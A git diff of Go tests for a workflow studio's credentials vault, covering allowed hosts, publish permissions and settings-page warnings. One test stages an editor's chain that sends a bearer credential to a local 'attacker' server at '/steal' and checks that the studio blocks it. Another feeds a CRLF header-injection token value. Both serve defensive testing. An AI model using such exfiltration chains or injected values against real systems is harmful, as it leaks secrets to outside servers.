@@ -6,8 +6,10 @@ import (
 	"fmt"
 	"net/http"
 	"net/http/httptest"
+	"net/url"
 	"path/filepath"
 	"strings"
+	"sync/atomic"
 	"testing"
 
 	"github.com/chainstudio/studio/engine"
@@ -21,6 +23,11 @@ import (
 // newVaultServer is a studio with a credentials vault whose http tool may
 // reach loopback (the stub servers of these tests).
 func newVaultServer(t *testing.T) (*Server, *httptest.Server) {
+	t.Helper()
+	return newVaultServerConfig(t, Config{Logger: testLogger()})
+}
+
+func newVaultServerConfig(t *testing.T, cfg Config) (*Server, *httptest.Server) {
 	t.Helper()
 	ctx := context.Background()
 	db, err := sqlite.Open(ctx, filepath.Join(t.TempDir(), "s.db"), sqlite.Options{Logger: testLogger()})
@@ -40,7 +47,7 @@ func newVaultServer(t *testing.T) (*Server, *httptest.Server) {
 	}
 	deps := testDeps(t, db, reg, func(o *runs.Options) { o.Credentials = v })
 	deps.Vault = v
-	srv, err := New(Config{Logger: testLogger()}, deps)
+	srv, err := New(cfg, deps)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -69,7 +76,7 @@ func TestCredentialUsedByNameNeverShown(t *testing.T) {
 	}))
 	defer stub.Close()
 
-	body := `{"name":"github","type":"bearer","fields":{"token":"` + credToken + `"}}`
+	body := `{"name":"github","type":"bearer","fields":{"token":"` + credToken + `"},"hosts":["127.0.0.1"]}`
 	wantStatus(t, do(t, ts, "POST", "/v1/credentials", body, h["editor"]...), http.StatusForbidden)
 	r := do(t, ts, "POST", "/v1/credentials", body, h["admin"]...)
 	wantStatus(t, r, http.StatusCreated)
@@ -109,7 +116,7 @@ func TestCredentialUsedByNameNeverShown(t *testing.T) {
 			t.Fatalf("an answer holds the credential: %s", s)
 		}
 	}
-	if c, _ := srv.vault.Get(context.Background(), "github"); c.LastUsed.IsZero() {
+	if c, _ := srv.Vault.Get(context.Background(), "github"); c.LastUsed.IsZero() {
 		t.Fatal("the use was not recorded")
 	}
 }
@@ -137,10 +144,59 @@ func TestCredentialReferencesValidated(t *testing.T) {
 			t.Errorf("%s: no %s issue naming it: %s", cred, rule, r.body)
 		}
 		id := r.json(t)["id"].(string)
-		r = do(t, ts, "POST", "/v1/chains/"+id+"/runs", `{"input":{}}`, h["editor"]...)
-		if r.status != http.StatusUnprocessableEntity {
+		r = do(t, ts, "POST", "/v1/chains/"+id+"/runs", `{"input":{},"version":"draft"}`, h["editor"]...)
+		want := http.StatusUnprocessableEntity
+		if cred == "narrow" { // a draft naming a chain-limited credential needs the publish permission first
+			want = http.StatusForbidden
+		}
+		if r.status != want {
 			t.Errorf("%s: a run of the chain: %d %s", cred, r.status, r.body)
 		}
+	}
+}
+
+// An editor cannot get a credential's value by pointing an http node at a
+// server of its own: the request is refused before it is sent, and the run
+// says which credential and which host, and how an admin opens it. A
+// credential without allowed hosts shows as unusable.
+func TestCredentialNotSentToAnEditorsServer(t *testing.T) {
+	t.Parallel()
+	srv, ts := newVaultServer(t)
+	h := roleTokens(t, srv)
+	var stolen atomic.Int32
+	attacker := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { stolen.Add(1) }))
+	defer attacker.Close()
+	attackerURL := strings.Replace(attacker.URL, "127.0.0.1", "localhost", 1)
+	wantStatus(t, do(t, ts, "POST", "/v1/credentials", `{"name":"github","type":"bearer","fields":{"token":"`+credToken+`"},"hosts":["127.0.0.1"]}`, h["admin"]...), http.StatusCreated)
+	r := do(t, ts, "POST", "/v1/credentials", `{"name":"nowhere","type":"bearer","fields":{"token":"`+credToken+`"}}`, h["admin"]...)
+	wantStatus(t, r, http.StatusCreated)
+	if m := r.json(t); m["usable"] != false {
+		t.Fatalf("a bearer credential without hosts: %s", r.body)
+	}
+	r = do(t, ts, "GET", "/v1/credentials/github", nil, h["editor"]...)
+	if m := r.json(t); fmt.Sprint(m["hosts"]) != "[127.0.0.1]" || m["usable"] != true {
+		t.Fatalf("hosts in the API: %s", r.body)
+	}
+	doc := fmt.Sprintf(`{"name":"steal","nodes":[{"node_id":"get","kind":"tool","name":"http","input":{"url":%q,"auth":{"credential":"github"}}}]}`, attackerURL+"/steal")
+	r = do(t, ts, "POST", "/v1/chains", doc, h["editor"]...)
+	wantStatus(t, r, http.StatusCreated)
+	id := r.json(t)["id"].(string)
+	r = do(t, ts, "POST", "/v1/chains/"+id+"/runs", `{"input":{}}`, h["editor"]...)
+	wantStatus(t, r, http.StatusAccepted)
+	run := r.json(t)["run_id"].(string)
+	waitStatus(t, ts, run, "failed", h["editor"])
+	r = do(t, ts, "GET", "/v1/runs/"+run, nil, h["editor"]...)
+	for _, want := range []string{`credential \"github\" may not be sent to localhost:`, "Settings → Credentials"} {
+		if !strings.Contains(string(r.body), want) {
+			t.Fatalf("the run does not say %s: %s", want, r.body)
+		}
+	}
+	if n := stolen.Load(); n != 0 {
+		t.Fatalf("the editor's server got %d requests", n)
+	}
+	page := do(t, ts, "GET", "/settings/credentials", nil, h["admin"]...)
+	if !strings.Contains(string(page.body), "no allowed hosts: unusable") || !strings.Contains(string(page.body), "127.0.0.1") {
+		t.Fatalf("the page does not show the hosts: %s", page.body)
 	}
 }
 
@@ -155,6 +211,8 @@ func TestCredentialAPIRefusals(t *testing.T) {
 		`{"name":"x","type":"basic","fields":{"username":"u"}}`,
 		`{"name":"x","type":"bearer","fields":{"token":"a\r\nX-Injected: 1"}}`,
 		`{"name":"x","type":"bearer","fields":{"token":7}}`,
+		`{"name":"x","type":"bearer","fields":{"token":"x"},"hosts":["*.com"]}`,
+		`{"name":"x","type":"bearer","fields":{"token":"x"},"hosts":["https://u:p@api.example.com/"]}`,
 	} {
 		r := do(t, ts, "POST", "/v1/credentials", b, h["admin"]...)
 		if r.status != http.StatusUnprocessableEntity || r.errCode(t) != "invalid_credential" {
@@ -167,4 +225,96 @@ func TestCredentialAPIRefusals(t *testing.T) {
 	}
 	wantStatus(t, do(t, ts, "PATCH", "/v1/credentials/none", `{"fields":{"token":"x"}}`, h["admin"]...), http.StatusNotFound)
 	wantStatus(t, do(t, ts, "DELETE", "/v1/credentials/none", nil, h["admin"]...), http.StatusNotFound)
+}
+
+// Editors publish ordinary chains, but not one that is triggered or names
+// a chain-limited credential, nor run the draft of one that names such a
+// credential: a publisher or an admin does. The refusal says why and who
+// may.
+func TestPublishGateForTriggeredAndCredentialChains(t *testing.T) {
+	t.Parallel()
+	srv, ts := newVaultServer(t)
+	h := roleTokens(t, srv)
+	plain := `{"name":"plain","nodes":[{"node_id":"a","kind":"tool","name":"echo","input":{"x":1}}]}`
+	r := do(t, ts, "POST", "/v1/chains", plain, h["editor"]...)
+	wantStatus(t, r, http.StatusCreated)
+	plainID := r.json(t)["id"].(string)
+	wantStatus(t, do(t, ts, "POST", "/v1/chains/"+plainID+"/publish", `{}`, h["editor"]...), http.StatusOK)
+
+	// A chain with a webhook.
+	r = do(t, ts, "POST", "/v1/chains", strings.Replace(plain, `"plain"`, `"hooked"`, 1), h["editor"]...)
+	wantStatus(t, r, http.StatusCreated)
+	hookedID := r.json(t)["id"].(string)
+	wantStatus(t, do(t, ts, "POST", "/v1/chains/"+hookedID+"/hooks", `{}`, h["editor"]...), http.StatusCreated)
+	r = do(t, ts, "POST", "/v1/chains/"+hookedID+"/publish", `{}`, h["editor"]...)
+	if r.status != http.StatusForbidden || r.errCode(t) != "publish_required" || !strings.Contains(string(r.body), "it has a webhook") || !strings.Contains(string(r.body), "publisher") {
+		t.Fatalf("an editor publishes a chain with a webhook: %d %s", r.status, r.body)
+	}
+	wantStatus(t, do(t, ts, "POST", "/v1/chains/"+hookedID+"/publish", `{}`, h["publisher"]...), http.StatusOK)
+
+	// A chain naming a credential limited to it.
+	doc := `{"name":"narrow","nodes":[{"node_id":"get","kind":"tool","name":"http","input":{"url":"http://127.0.0.1:1/","auth":{"credential":"narrow"}}}]}`
+	r = do(t, ts, "POST", "/v1/chains", doc, h["editor"]...)
+	wantStatus(t, r, http.StatusCreated)
+	id := r.json(t)["id"].(string)
+	wantStatus(t, do(t, ts, "POST", "/v1/credentials", `{"name":"narrow","type":"bearer","fields":{"token":"narrow-0123456789"},"hosts":["127.0.0.1"],"chains":["`+id+`"]}`, h["admin"]...), http.StatusCreated)
+	// The editor's draft, v2, sends it elsewhere on the allowed host.
+	wantStatus(t, do(t, ts, "PUT", "/v1/chains/"+id, strings.Replace(doc, "127.0.0.1:1/", "127.0.0.1:2/other", 1), append([]string{"If-Match", `"v1"`}, h["editor"]...)...), http.StatusOK)
+	r = do(t, ts, "POST", "/v1/chains/"+id+"/runs", `{"version":"current"}`, h["editor"]...)
+	if r.status != http.StatusForbidden || r.errCode(t) != "publish_required" || !strings.Contains(string(r.body), `credential \"narrow\"`) {
+		t.Fatalf("an editor runs the draft of a chain with a limited credential: %d %s", r.status, r.body)
+	}
+	r = do(t, ts, "POST", "/v1/chains/"+id+"/publish", `{}`, h["editor"]...)
+	if r.status != http.StatusForbidden || r.errCode(t) != "publish_required" {
+		t.Fatalf("an editor publishes a chain with a limited credential: %d %s", r.status, r.body)
+	}
+	wantStatus(t, do(t, ts, "POST", "/v1/chains/"+id+"/runs", `{"version":"current"}`, h["publisher"]...), http.StatusAccepted)
+	wantStatus(t, do(t, ts, "POST", "/v1/chains/"+id+"/publish", `{}`, h["admin"]...), http.StatusOK)
+	// The published version is what an admin looked at: an editor runs it.
+	wantStatus(t, do(t, ts, "POST", "/v1/chains/"+id+"/runs", `{}`, h["editor"]...), http.StatusAccepted)
+}
+
+// The Settings → Credentials form sets the allowed hosts (one a line); a
+// save that leaves them empty keeps them; a bad one is said on the page.
+func TestCredentialsPageSetsHosts(t *testing.T) {
+	t.Parallel()
+	srv, ts := newVaultServer(t)
+	h := roleTokens(t, srv)
+	form := url.Values{"name": {"gh"}, "type": {"bearer"}, "field.token": {credToken}, "all_chains": {"1"}, "hosts": {"api.github.com\r\n*.githubusercontent.com\r\n"}}
+	if res := postForm(t, ts, "/settings/credentials", form, h["admin"]...); res.StatusCode != http.StatusSeeOther {
+		t.Fatalf("save: %d", res.StatusCode)
+	}
+	form.Set("hosts", "")
+	form.Set("field.token", "")
+	if res := postForm(t, ts, "/settings/credentials", form, h["admin"]...); res.StatusCode != http.StatusSeeOther {
+		t.Fatalf("save again: %d", res.StatusCode)
+	}
+	cr, err := srv.Vault.Get(context.Background(), "gh")
+	if err != nil || strings.Join(cr.Hosts, " ") != "api.github.com *.githubusercontent.com" {
+		t.Fatalf("hosts: %+v %v", cr, err)
+	}
+	status, body := pageForm(t, ts, "/settings/credentials", url.Values{"name": {"gh"}, "type": {"bearer"}, "hosts": {"*.com"}}, append([]string{"Origin", ts.URL}, h["admin"]...)...)
+	if status != http.StatusUnprocessableEntity || !strings.Contains(body, `allowed host &#34;*.com&#34;`) {
+		t.Fatalf("a bad host: %d %s", status, body)
+	}
+}
+
+// The Credentials page warns of a model credential whose base URL the
+// studio's address policy will refuse, naming the flag that opens it.
+func TestCredentialsPageWarnsOfARefusedBaseURL(t *testing.T) {
+	t.Parallel()
+	srv, ts := newVaultServer(t)
+	h := roleTokens(t, srv)
+	for _, b := range []string{
+		`{"name":"local-llm","type":"openai_compatible","fields":{"base_url":"http://127.0.0.1:11434/v1"}}`,
+		`{"name":"hosted-llm","type":"openai_compatible","fields":{"base_url":"https://llm.example.com/v1","api_key":"sk-0123456789"}}`,
+	} {
+		wantStatus(t, do(t, ts, "POST", "/v1/credentials", b, h["admin"]...), http.StatusCreated)
+	}
+	r := do(t, ts, "GET", "/settings/credentials", nil, h["admin"]...)
+	wantStatus(t, r, http.StatusOK)
+	body := string(r.body)
+	if strings.Count(body, "--model-allow-private") != 1 || !strings.Contains(body, "127.0.0.1 is a loopback address") {
+		t.Fatalf("the page does not warn of the refused base URL (once, for local-llm):\n%s", body)
+	}
 }
